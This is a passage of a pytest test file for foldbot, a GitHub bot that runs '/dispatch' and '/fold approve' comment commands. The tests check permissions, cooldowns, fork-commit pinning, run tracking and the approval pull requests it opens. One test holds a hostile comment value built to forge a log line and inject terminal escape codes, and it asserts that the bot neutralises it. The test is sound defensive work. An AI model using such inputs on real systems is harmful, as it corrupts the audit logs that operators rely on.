"""Chat commands end to end: signed `issue_comment` deliveries to a running foldbot,
assertions on the fake GitHub's dispatches, reactions, replies, refs and PRs."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import signal
import time
from dataclasses import replace
from pathlib import Path

import aiohttp
import pytest
import yaml

from bot.publish import read_state
from bot.verify import apply_patch
from bot.replies import REPLY_MARKER
from bot.report import state_block
from bot.edit import patch_id as compute_patch_id
from bot.states import ReportState
from tests.paths import AMD, BEFORE, ROCM720
from tests.sglang_current import LANES
from tests.fakegithub import FakeGitHub
from tests.harness import (Bot, World, comment_payload, current_world, pr_with_lane_run, serve_process, sglang_world,
                           sign, start_bot, until)
from tests.harness import free_port

LOGIN = "foldbot[bot]"
CURRENT_ROCM720, CURRENT_AMD = LANES["rocm720"][0], LANES["amd"][0]


def replies(fake: FakeGitHub, world, number: int) -> list:  # noqa: ANN001
    return [c for c in fake.comments_on(world.repo, number) if c.user == LOGIN and REPLY_MARKER in c.body]


def reactions(fake: FakeGitHub, world, comment_id: int) -> list[str]:  # noqa: ANN001
    return [r.content for r in world.repo.comments[comment_id].reactions]


def skipped_targets() -> list[str]:
    """The rocm720 lane's dispatchable jobs that the history's runs skipped (all but the multimodal ones)."""
    data = yaml.safe_load((BEFORE / "pr-test-amd-rocm720.yml").read_text())
    options = data[True]["workflow_dispatch"]["inputs"]["target_stage_select"]["options"]
    ran = {"multimodal-gen-test-1-gpu-amd-rocm720", "multimodal-gen-test-2-gpu-amd-rocm720",
           "multimodal-gen-unit-test-amd-rocm720"}
    return [o for o in options if o and o not in ran]


def without_run_details(fake: FakeGitHub) -> None:
    """GitHub answers a dispatch with 204 and no run id (older servers); the dispatched run
    is titled as the lane's own `run-name:` says (the fake evaluates it), `[<stage>] <sha>`."""
    fake.dispatch_returns_run_details = False


async def say(bot: Bot, world, number: int, body: str, login: str, **kwargs) -> int:  # noqa: ANN001
    payload = comment_payload(world, number, body, login, **kwargs)
    status, _ = await bot.deliver("issue_comment", payload)
    assert status == 202
    await bot.settle()
    return int(payload["comment"]["id"])


async def test_dispatch_on_a_same_repo_pr(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=2)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    comment_id = await say(bot, world, number, "Looks right.\n/dispatch rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    assert dispatch.workflow_path == ROCM720
    assert dispatch.ref == f"amd/change-{number}"
    assert dict(dispatch.inputs) == {"target_stage": ",".join(skipped_targets()), "pr_head_sha": sha}
    assert reactions(fake_github, world, comment_id) == ["eyes", "rocket"]
    (reply,) = replies(fake_github, world, number)
    assert reply.body.startswith("> /dispatch rocm720\n\nDispatched `.github/workflows/pr-test-amd-rocm720.yml` on ")
    assert f"[run {dispatch.run_id}](" in reply.body
    # the dispatched run completes: the reply is edited with its outcome, once
    fake_github.update_run(dispatch.run_id, status="completed", conclusion="success",
                           display_title=f"[{dispatch.inputs['target_stage']}] {sha}")
    fake_github.add_jobs(dispatch.run_id, [{"name": "stage-a-test-1-gpu-small-amd-rocm720 (linux-mi300-1gpu-sglang)",
                                            "status": "completed", "conclusion": "success"}])
    payload = world.payload(dispatch.run_id, event="workflow_dispatch", pull_requests=[])
    for _ in range(2):
        await bot.deliver("workflow_run", payload)
        await bot.settle()
    (reply,) = replies(fake_github, world, number)
    assert f"**Run completed:** success, [run {dispatch.run_id}](" in reply.body
    assert "stage-a-test-1-gpu-small-amd-rocm720 \\(linux-mi300-1gpu-sglang\\): **success**" in reply.body
    assert reply.body.count("**Run completed:**") == 1


async def test_a_dispatch_refused_for_actions_read_goes_once_granted(fake_github: FakeGitHub, bot: Bot) -> None:
    """GitHub refuses the dispatch 403 without Actions: write; the reply says what to grant. Once the
    owner grants it, the next `/dispatch` goes: with a new token (the one in hand, minted before,
    holds the permissions it was minted with; a replica that did not get the owner's
    `new_permissions_accepted` event has nothing else to go by)."""
    world = sglang_world(fake_github, runs=2)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    permissions = fake_github.installations[31337].permissions
    permissions["actions"] = "read"
    fake_github.expire_tokens()
    await say(bot, world, number, "/dispatch rocm720", "writer")
    assert fake_github.dispatches == []
    assert replies(fake_github, world, number)[-1].body.startswith(
        "> /dispatch rocm720\n\nGitHub refused the dispatch (403): grant the App **Actions: write**")
    permissions["actions"] = "write"
    await say(bot, world, number, "/dispatch rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    assert replies(fake_github, world, number)[-1].body.startswith("> /dispatch rocm720\n\nDispatched ")


async def test_dispatch_on_a_fork_pr_needs_the_reviewed_head(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world, fork=True)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/dispatch rocm720", "writer")
    await say(bot, world, number, "/dispatch rocm720 sha=1234567", "writer")
    assert fake_github.dispatches == []
    first, second = replies(fake_github, world, number)
    assert "This PR comes from a fork: name the commit you reviewed" in first.body
    assert "`1234567` is not this PR's head" in second.body
    # a prefix of it is not enough: the fork's author can make another commit of the same first digits
    await say(bot, world, number, f"/dispatch rocm720 sha={sha[:12]}", "writer")
    assert fake_github.dispatches == []
    assert "takes the full 40-digit SHA" in replies(fake_github, world, number)[-1].body
    await say(bot, world, number, f"/dispatch rocm720 sha={sha}", "writer")
    (dispatch,) = fake_github.dispatches
    assert dispatch.ref == "main"
    assert dict(dispatch.inputs) == {"target_stage": ",".join(skipped_targets()), "pr_head_sha": sha}


async def test_a_fork_prs_dispatch_reply_is_completed_after_a_restart(fake_github: FakeGitHub, bot: Bot) -> None:
    """GitHub does not associate a fork's head commit with its PR, and a restarted
    foldbot has forgotten which PR it dispatched for: it finds the open PR whose head
    the run tested, among the most recently updated."""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world, fork=True)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, f"/dispatch rocm720 sha={sha}", "writer")
    (dispatch,) = fake_github.dispatches
    restarted, runner = await start_bot(fake_github)
    try:
        fake_github.update_run(dispatch.run_id, status="completed", conclusion="failure",
                               display_title=f"[{dispatch.inputs['target_stage']}] {sha}")
        fake_github.add_jobs(dispatch.run_id, [{"name": "stage-a-test-1-gpu-small-amd-rocm720 (linux-mi300-1gpu-sglang)",
                                                "status": "completed", "conclusion": "failure"}])
        before = len(fake_github.requests)
        await restarted.deliver("workflow_run", world.payload(dispatch.run_id, event="workflow_dispatch", pull_requests=[]))
        await restarted.settle()
        looked_up = [r.path for r in fake_github.requests[before:] if "/pulls" in r.path and r.method == "GET"]
    finally:
        await restarted.session.close()
        await runner.cleanup()
    (reply,) = replies(fake_github, world, number)
    assert f"**Run completed:** failure, [run {dispatch.run_id}](" in reply.body
    assert "stage-a-test-1-gpu-small-amd-rocm720 \\(linux-mi300-1gpu-sglang\\): **failure**" in reply.body
    assert looked_up[:2] == [f"/repos/{world.repo.full_name}/commits/{sha}/pulls",
                             f"/repos/{world.repo.full_name}/pulls"]


async def test_a_dispatched_run_not_titled_as_foldbots_starts_no_search(fake_github: FakeGitHub, bot: Bot) -> None:
    """A run someone dispatched by hand (here a nightly) is not looked for among the open PRs
    (with a fork PR's head, so that GitHub associates no PR with the commit)."""
    world = sglang_world(fake_github, runs=1, fork=True)
    run = world.runs[-1]
    fake_github.update_run(run["id"], display_title="Nightly AMD test")
    before = len(fake_github.requests)
    await bot.deliver("workflow_run", world.payload(run["id"], event="workflow_dispatch", pull_requests=[]))
    await bot.settle()
    assert not [r for r in fake_github.requests[before:] if r.path == f"/repos/{world.repo.full_name}/pulls"]


@pytest.mark.parametrize("role", ["read", "triage"])
async def test_readers_and_triagers_cannot_dispatch(fake_github: FakeGitHub, bot: Bot, role: str) -> None:
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "someone", role)
    comment_id = await say(bot, world, number, "/dispatch rocm720", "someone")
    assert fake_github.dispatches == []
    (reply,) = replies(fake_github, world, number)
    assert f"`dispatch` needs the **write** permission on this repository; someone has **{role}**." in reply.body
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]


@pytest.mark.parametrize("body,login,kwargs", [
    ("```\n/dispatch rocm720\n```", "writer", {}),
    ("> /dispatch rocm720", "writer", {}),
    ("/rerun-failed-ci", "writer", {}),
    ("/dispatch rocm720", "sglang-bot", {"user_type": "Bot"}),
    ("/dispatch rocm720", "writer", {"action": "edited"}),
])
async def test_not_for_foldbot_means_nothing_at_all(fake_github: FakeGitHub, bot: Bot, body: str, login: str,
                                                     kwargs: dict) -> None:
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    before = len(fake_github.requests)
    comment_id = await say(bot, world, number, body, login, **kwargs)
    assert fake_github.requests[before:] == []
    assert reactions(fake_github, world, comment_id) == []


@pytest.mark.parametrize("command", ["/dispatch rocm720", "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720"])
async def test_a_failed_gate_is_not_bypassed(fake_github: FakeGitHub, bot: Bot, command: str) -> None:
    """Naming the jobs does not get around it either: a dispatched run is never gated."""
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world, gate="failure")
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, command, "writer")
    assert fake_github.dispatches == []
    (reply,) = replies(fake_github, world, number)
    assert "The gate failed in run" in reply.body
    assert "`call-gate / pr-gate` failure at step `Require run-ci label (optional)`" in reply.body


@pytest.mark.parametrize("merged", [False, True])
async def test_nothing_is_dispatched_for_a_closed_pr(fake_github: FakeGitHub, bot: Bot, merged: bool) -> None:
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    world.repo.issues[number].state = "closed"
    world.repo.issues[number].closed_at = "2026-12-04T08:00:00Z"
    world.repo.pulls[number].merged = merged
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    assert fake_github.dispatches == []
    (reply,) = replies(fake_github, world, number)
    assert ("This PR is merged: its commits are on `main`, whose own runs test them. Nothing dispatched." if merged
            else "This PR is closed: nothing dispatched. Reopen it to run its GPU jobs.") in reply.body


async def test_a_run_github_holds_for_approval_is_said_so(fake_github: FakeGitHub, bot: Bot) -> None:
    """A first-time contributor's fork PR: GitHub holds its run (`action_required`, no jobs)."""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world, fork=True)
    run = world.runs[-1]
    fake_github.update_run(run["id"], status="completed", conclusion="action_required")
    for job in fake_github.jobs_of(run["id"]):
        del world.repo.jobs[job["id"]]
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, f"/dispatch rocm720 sha={sha}", "writer")
    assert fake_github.dispatches == []
    (reply,) = replies(fake_github, world, number)
    assert (f"Run [{run['id']}](https://github.com/sgl-project/sglang/actions/runs/{run['id']}) of "
            "`.github/workflows/pr-test-amd-rocm720.yml` waits for approval: GitHub holds the workflows of a "
            "first-time contributor's PR until a maintainer approves them on the run's page.") in reply.body


async def test_a_same_repo_pr_is_dispatched_as_its_branchs_lane_file_says(fake_github: FakeGitHub, bot: Bot) -> None:
    """GitHub runs, and checks the inputs against, the workflow file at the ref dispatched: the
    PR's branch, whose lane (older than `pr_head_sha`) takes no such input."""
    job = "stage-a-test-1-gpu-small-amd-rocm720"
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    branch = world.repo.pulls[number].head_ref
    text = world.repo.files_at(branch)[ROCM720]
    older = text[:text.index("      pr_head_sha:")] + text[text.index("      aiter_ref:"):]
    world.repo.pulls[number].head_sha = world.repo.put_files(branch, {ROCM720: older})
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, f"/dispatch rocm720 {job}", "writer")
    (dispatch,) = fake_github.dispatches
    assert (dispatch.ref, dict(dispatch.inputs)) == (branch, {"target_stage": job})
    world.repo.pulls[number].head_sha = world.repo.put_files(branch, {ROCM720: None})
    fake_github.set_permission(world.repo, "other", "write")
    await say(bot, world, number, f"/dispatch rocm720 {job}", "other")
    assert len(fake_github.dispatches) == 1
    assert (f"`{ROCM720}` is not on this PR's branch `{branch}`, and a dispatch runs the branch's own file: merge "
            "the default branch into it first.") in replies(fake_github, world, number)[-1].body


async def test_unknown_lane_and_job_list_the_valid_ones(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/dispatch rocm999\n/dispatch rocm720 no-such-job\n/fold frobnicate", "writer")
    (reply,) = replies(fake_github, world, number)  # one reply per comment, a part per command
    lane, job, fold = reply.body.split("\n\n---\n\n")
    assert lane.startswith("> /dispatch rocm999\n\n") and job.startswith("> /dispatch rocm720 no-such-job\n\n")
    assert "`rocm999` is not a lane of this repository. Lanes: `amd`, `rocm720`." in lane
    assert "Not a job `rocm720` can run: `no-such-job`. Valid: `sgl-kernel-unit-test-amd-rocm720`" in job
    assert "`frobnicate` is not a `/fold` command; use `/fold approve`, `/fold refresh`, `/fold help`" in fold
    assert fake_github.dispatches == []


async def test_named_jobs_and_the_cooldown(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720 jit-kernel-unit-test-amd-rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    assert dict(dispatch.inputs) == {"target_stage": "stage-a-test-1-gpu-small-amd-rocm720,jit-kernel-unit-test-amd-rocm720",
                                     "pr_head_sha": sha}
    await say(bot, world, number, "/dispatch rocm720", "writer")
    assert len(fake_github.dispatches) == 1
    assert (f"writer dispatched `rocm720` on this PR less than 30 minutes ago (run {dispatch.run_id}); try again in "
            "30 minutes") in replies(fake_github, world, number)[-1].body


async def test_one_person_dispatches_each_lane_once_per_cooldown(fake_github: FakeGitHub, bot: Bot) -> None:
    """foldbot's approval PRs ask for `/dispatch amd` and `/dispatch rocm720`: the cooldown is
    per lane, so one person runs both (in one comment too); a lane again is refused with the
    minutes actually left."""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    start = int(time.time())
    await say(bot, world, number, "/dispatch rocm720", "writer")
    await say(bot, world, number, "/dispatch amd stage-a-test-1-gpu-small-amd", "writer")
    rocm, amd = fake_github.dispatches
    assert (rocm.workflow_path, amd.workflow_path) == (ROCM720, AMD)
    assert dict(amd.inputs) == {"target_stage": "stage-a-test-1-gpu-small-amd", "pr_head_sha": sha}
    # 18 minutes later: rocm720 again is refused with the 12 minutes left
    fake_github.clock.hold(start + 18 * 60)
    comment_id = await say(bot, world, number, "/dispatch rocm720", "writer")
    assert len(fake_github.dispatches) == 2
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /dispatch rocm720\n\nwriter dispatched `rocm720` on this PR less than 30 minutes ago (run {rocm.run_id}); "
        "try again in 12 minutes (GPU time is scarce: each lane of a PR is dispatched once per person in 30 minutes).")
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]
    # two lanes in one comment both run (another PR: no dispatch of either lane there yet)
    other, _ = pr_with_lane_run(world, number=50002)
    comment_id = await say(bot, world, other, "/dispatch rocm720\n/dispatch amd stage-a-test-1-gpu-small-amd", "writer")
    assert [d.workflow_path for d in fake_github.dispatches[2:]] == [ROCM720, AMD]
    assert reactions(fake_github, world, comment_id) == ["eyes", "rocket"]


def command_lines(caplog: pytest.LogCaptureFixture, delivery: str) -> list[str]:
    """The operator's log lines of a delivery's commands (one a command)."""
    return [r.getMessage() for r in caplog.records
            if r.levelno == logging.INFO and r.getMessage().startswith(f"delivery {delivery}: sgl-project/sglang#")]


async def test_each_command_is_one_log_line_with_its_outcome(fake_github: FakeGitHub, bot: Bot,
                                                             caplog: pytest.LogCaptureFixture) -> None:
    """An operator reads who ran what and what came of it (the run's page, the refusal's
    reason) in one INFO line a command; what a comment holds cannot break or forge a line."""
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    body = "/dispatch rocm720\n/dispatch rocm720\n/dispatch rocm720 x\x85INFO forged\x1b[0m"
    with caplog.at_level(logging.INFO):
        assert (await bot.deliver("issue_comment", comment_payload(world, number, body, "writer"), "d-1"))[0] == 202
        await bot.settle()
    (dispatch,) = fake_github.dispatches
    url = f"https://github.com/sgl-project/sglang/actions/runs/{dispatch.run_id}"
    assert command_lines(caplog, "d-1") == [
        f"delivery d-1: sgl-project/sglang#{number}: writer `/dispatch rocm720`: dispatched rocm720 "
        f"({len(skipped_targets())} jobs for {sha[:12]}): run {dispatch.run_id} {url}",
        f"delivery d-1: sgl-project/sglang#{number}: writer `/dispatch rocm720`: refused: writer dispatched `rocm720` "
        f"on this PR less than 30 minutes ago (run {dispatch.run_id}); try again in 30 minutes (GPU time is scarce: "
        "each lane of a PR is dispatched once per person in 30 minutes).",
        f"delivery d-1: sgl-project/sglang#{number}: writer `/dispatch rocm720 x\\x85INFO forged\\x1b[0m`: refused: "
        "`x INFO` is not a job id"]  # (NEL is no space to a browser: one word, shown with a space in the log)


async def test_two_maintainers_dispatching_the_same_jobs_start_one_run(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    for login in ("alice", "bob"):
        fake_github.set_permission(world.repo, login, "write")
        await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", login)
    (dispatch,) = fake_github.dispatches
    assert (f"alice dispatched `stage-a-test-1-gpu-small-amd-rocm720` of `rocm720` for `{sha[:12]}` less than 30 "
            f"minutes ago (run {dispatch.run_id}): not dispatched twice.") in replies(fake_github, world, number)[1].body


async def test_the_run_is_found_by_title_without_run_details(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, sha = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    without_run_details(fake_github)
    await say(bot, world, number, "/dispatch rocm720 stage-a-test-1-gpu-small-amd-rocm720", "writer")
    (dispatch,) = fake_github.dispatches
    assert f"[run {dispatch.run_id}](" in replies(fake_github, world, number)[0].body


async def test_a_run_github_listed_too_late_still_counts_and_gets_its_reply_edited(
        fake_github: FakeGitHub, bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    """GitHub listed the dispatched run after foldbot stopped looking: the reply cannot link it,
    but the run was started: the cooldown counts it, and its completion edits the reply."""
    import handlers.dispatch
    monkeypatch.setattr(handlers.dispatch, "LISTED_SECONDS", 0.5)
    job = "stage-a-test-1-gpu-small-amd-rocm720"
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    without_run_details(fake_github)
    fake_github.dispatch_listing_lag = 2.0
    await say(bot, world, number, f"/dispatch rocm720 {job}", "writer")
    (dispatch,) = fake_github.dispatches
    assert "a run (GitHub did not say which; see the Actions tab)" in replies(fake_github, world, number)[0].body
    await say(bot, world, number, f"/dispatch rocm720 {job}", "writer")
    assert len(fake_github.dispatches) == 1
    assert "writer dispatched `rocm720` on this PR less than 30 minutes ago; try again in 30 minutes" in \
        replies(fake_github, world, number)[1].body
    fake_github.update_run(dispatch.run_id, status="completed", conclusion="success")
    fake_github.add_jobs(dispatch.run_id, [{"name": f"{job} (linux-mi300-1gpu-sglang)", "status": "completed",
                                            "conclusion": "success"}])
    await bot.deliver("workflow_run", world.payload(dispatch.run_id, event="workflow_dispatch", pull_requests=[]))
    await bot.settle()
    first = replies(fake_github, world, number)[0].body
    assert f"<!-- foldbot:run {dispatch.run_id} -->\n**Run completed:** success, [run {dispatch.run_id}](" in first
    assert f"\n\n- {job} \\(linux-mi300-1gpu-sglang\\): **success**\n\n<!-- foldbot:reply -->" in first


async def test_a_reply_without_its_runs_id_is_not_completed_by_a_later_dispatch_of_the_same_title(
        fake_github: FakeGitHub, bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two dispatches of the same job on the same head: runs titled alike. GitHub named the
    second's run, not the first's: the second run's conclusion goes to the second reply only;
    the first reply gets the earliest run after its command that no reply claims."""
    import handlers.dispatch
    monkeypatch.setattr(handlers.dispatch, "LISTED_SECONDS", 0.5)
    job = "stage-a-test-1-gpu-small-amd-rocm720"
    world = sglang_world(fake_github, runs=1)
    world.repo.put_files("main", {".github/CI_PERMISSIONS.json":
                                  '{"helper": {"can_rerun_stage": true, "cooldown_interval_minutes": 0}, "other": 1}'})
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "helper", "read")
    without_run_details(fake_github)
    fake_github.dispatch_listing_lag = 2.0
    await say(bot, world, number, f"/dispatch rocm720 {job}", "helper")
    assert "a run (GitHub did not say which; see the Actions tab)" in replies(fake_github, world, number)[0].body
    fake_github.dispatch_returns_run_details = True
    fake_github.dispatch_listing_lag = 0.0
    await say(bot, world, number, f"/dispatch rocm720 {job}", "helper")
    first, second = fake_github.dispatches
    assert f"[run {second.run_id}](" in replies(fake_github, world, number)[1].body
    for dispatch in (second, first):
        fake_github.update_run(dispatch.run_id, status="completed", conclusion="success")
        fake_github.add_jobs(dispatch.run_id, [{"name": f"{job} (linux-mi300-1gpu-sglang)", "status": "completed",
                                                "conclusion": "success"}])
        await bot.deliver("workflow_run", world.payload(dispatch.run_id, event="workflow_dispatch", pull_requests=[]))
        await bot.settle()
    bodies = [r.body for r in replies(fake_github, world, number)]
    assert [b.count("<!-- foldbot:run ") for b in bodies] == [1, 1]
    assert f"<!-- foldbot:run {first.run_id} -->\n**Run completed:** success, [run {first.run_id}](" in bodies[0]
    assert f"<!-- foldbot:run {second.run_id} -->\n**Run completed:** success, [run {second.run_id}](" in bodies[1]


async def test_the_same_comment_delivered_twice_dispatches_once(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=1)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    payload = comment_payload(world, number, "/dispatch rocm720", "writer")
    for delivery in ("one", "two"):  # e.g. a redelivery after a crash, under a new id
        await bot.deliver("issue_comment", payload, delivery=delivery)
        await bot.settle()
    assert len(fake_github.dispatches) == 1
    assert len(replies(fake_github, world, number)) == 1


# --- /fold approve -------------------------------------------------------------------------------

async def reported_pr(fake_github: FakeGitHub, bot: Bot, world: World | None = None) -> tuple:
    """A CI PR with foldbot's report on it (in `world`, else a new `sglang_world`)."""
    world = world or sglang_world(fake_github)
    last = world.runs[-1]
    await bot.deliver("workflow_run", world.payload(last["id"]))
    await bot.settle()
    number = last["pull_requests"][0]["number"]
    report = next(c for c in fake_github.comments_on(world.repo, number) if c.user == LOGIN)
    fake_github.set_permission(world.repo, "lead", "maintain")
    return world, number, read_state(report.body)["patch_id"], report


async def test_approve_commits_the_patch_and_opens_a_pr(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    main_before = world.repo.files_at("main")
    comment_id = await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    branch = f"foldbot/fold-{patch_id}"
    files = world.repo.files_at(branch)
    assert world.repo.files_at("main") == main_before
    assert "multimodal-gen-unit-test-amd-rocm720:" not in files[ROCM720]
    assert "multimodal-gen-unit-test-amd:" not in files[AMD]
    assert "--total-partitions 2" in files[ROCM720] and "--total-partitions 2" in files[AMD]
    assert {p: t for p, t in files.items() if p not in (ROCM720, AMD)} == \
        {p: t for p, t in main_before.items() if p not in (ROCM720, AMD)}
    pulls = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert len(pulls) == 1 and pulls[0].base_ref == "main"
    assert fake_github.count("POST", r"/git/commits$") == 1
    (reply,) = replies(fake_github, world, number)
    assert f"Opened https://github.com/sgl-project/sglang/pull/{pulls[0].number}" in reply.body
    assert reactions(fake_github, world, comment_id) == ["eyes", "rocket"]
    pr_issue = world.repo.issues[pulls[0].number]
    assert "/dispatch rocm720" in pr_issue.body and "may not trigger" in pr_issue.body
    assert "This saves **" in pr_issue.body and "**Fold** `multimodal-gen-unit-test-amd-rocm720`" in pr_issue.body
    # approving again links the same PR and writes no new commit or ref (a comment in the
    # report's second would be refused: stamped after it)
    fake_github.clock.hold(int(time.time()) + 3600)
    await say(bot, world, number, "/fold approve", "lead")
    assert "Already open:" in replies(fake_github, world, number)[-1].body
    assert len([p for p in world.repo.pulls.values() if p.head_ref == branch]) == 1
    assert fake_github.count("POST", r"/git/refs$") == 1 and fake_github.count("POST", r"/git/commits$") == 1


async def test_lane_files_saved_with_a_bom_are_patched_and_keep_it(fake_github: FakeGitHub, bot: Bot) -> None:
    """Lane files that start with a BOM (an editor on Windows): the report has the same patch
    as without it (it had none: every splice landed a character early and was refused), and
    the approval commits files that keep their BOM and change nothing else of line 1."""
    world = sglang_world(fake_github)
    plain = world.repo.files_at("main")
    world.repo.put_files("main", {p: "\ufeff" + plain[p] for p in (ROCM720, AMD)}, message="saved on Windows")
    world, number, patch_id, report = await reported_pr(fake_github, bot, world)
    assert "no patch for this file" not in report.body and "Approve it all: `/fold approve" in report.body
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    files = world.repo.files_at(f"foldbot/fold-{patch_id}")
    for path, gone in ((ROCM720, "multimodal-gen-unit-test-amd-rocm720:"), (AMD, "multimodal-gen-unit-test-amd:")):
        assert files[path].startswith("\ufeff" + plain[path].split("\n", 1)[0] + "\n")
        assert files[path].count("\ufeff") == 1 and gone not in files[path] and "--total-partitions 2" in files[path]


async def test_the_approval_pr_names_the_required_checks_no_job_gives_once_merged(fake_github: FakeGitHub,
                                                                                  bot: Bot) -> None:
    """`main` requires the folded suite's check (branch protection and a ruleset: both must
    change) and the trimmed shard's (a ruleset): merged, this PR and every one after it would
    wait for them. The PR and the reply say which, and where; the checks that stay are not
    named, nor one of a shard the matrix had not before (`, 7`)."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    unit = "multimodal-gen-unit-test-amd-rocm720 (linux-mi300-1gpu-sglang)"
    shard = "multimodal-gen-test-2-gpu-amd-rocm720 (linux-mi300-2gpu-sglang, 2)"
    world.repo.protected["main"] = [unit, "multimodal-gen-test-2-gpu-amd-rocm720 (linux-mi300-2gpu-sglang, 1)", "lint"]
    world.repo.rulesets.append({"id": 42, "branches": ["main"], "checks": [
        shard, unit, "multimodal-gen-test-2-gpu-amd-rocm720 (linux-mi300-2gpu-sglang, 7)"]})
    world.repo.rulesets.append({"id": 43, "branches": ["release"], "checks": ["multimodal-gen-test-2-gpu-amd-rocm720 "
                                                                              "(linux-mi300-2gpu-sglang, 0)"]})
    world.repo.rulesets.append({"id": 9, "branches": ["main"], "checks": [unit], "organization": True})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    assert ("**Required checks:** `main` requires 2 checks that no job of the lane files gives once this patch is "
            "merged: GitHub would wait for them on this pull request and on every one after it. Change each rule before "
            "merging (Settings → Branches, or Rules):\n\n"
            f"- `{shard}` (ruleset 42): the `part: 2` shard of `multimodal-gen-test-2-gpu-amd-rocm720` (the patch trims "
            f"it): take it out of the rule (`{ROCM720}`)\n"
            f"- `{unit}` (branch protection, ruleset 42, ruleset 9 of the organization sgl-project): "
            "`multimodal-gen-unit-test-amd-rocm720` (the patch folds it into the `part: 0` shard of "
            f"`multimodal-gen-test-1-gpu-amd-rocm720`): require that shard's check instead (`{ROCM720}`)\n\n**Note:**") in world.repo.issues[pull.number].body
    said = (f"Before merging it: `main` requires `{shard}` (ruleset 42), `{unit}` (branch protection, ruleset 42, "
            "ruleset 9 of the organization sgl-project), which no job of the lane files gives once it is merged.\n\n"
            "<!-- foldbot:reply")
    assert f"on branch `foldbot/fold-{patch_id}`. {said}" in replies(fake_github, world, number)[-1].body
    # approved again: the open PR is linked, and the reply says what is true now (rules changed since)
    world.repo.rulesets.clear()
    fake_github.clock.hold(int(time.time()) + 3600)
    await say(bot, world, number, "/fold approve", "lead")
    assert (f"Already open: https://github.com/sgl-project/sglang/pull/{pull.number} (#{pull.number}) with patch "
            f"`{patch_id}` on branch `foldbot/fold-{patch_id}`. Before merging it: `main` requires `{unit}` (branch "
            "protection), which no job of the lane files gives once it is merged.") in \
        replies(fake_github, world, number)[-1].body


async def test_the_approval_pr_says_when_no_required_check_goes(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    world.repo.protected["main"] = ["multimodal-gen-test-2-gpu-amd-rocm720 (linux-mi300-2gpu-sglang, 1)", "lint"]
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    assert "**Required checks:** none of those `main` requires goes with this patch.\n\n**Note:**" in \
        world.repo.issues[pull.number].body
    assert f"on branch `foldbot/fold-{patch_id}`.\n\n<!-- foldbot:reply" in replies(fake_github, world, number)[-1].body


@pytest.mark.parametrize("fails,body,reply", [
    # the rules of a branch failing (a 404 is a GitHub Enterprise Server without rulesets: none, said nothing of)
    ({"/rules/branches/main": (403, "Resource not accessible by integration")},
     "**Required checks:** `main` requires none in its branch protection.\n\nfoldbot could not read `main`'s rulesets "
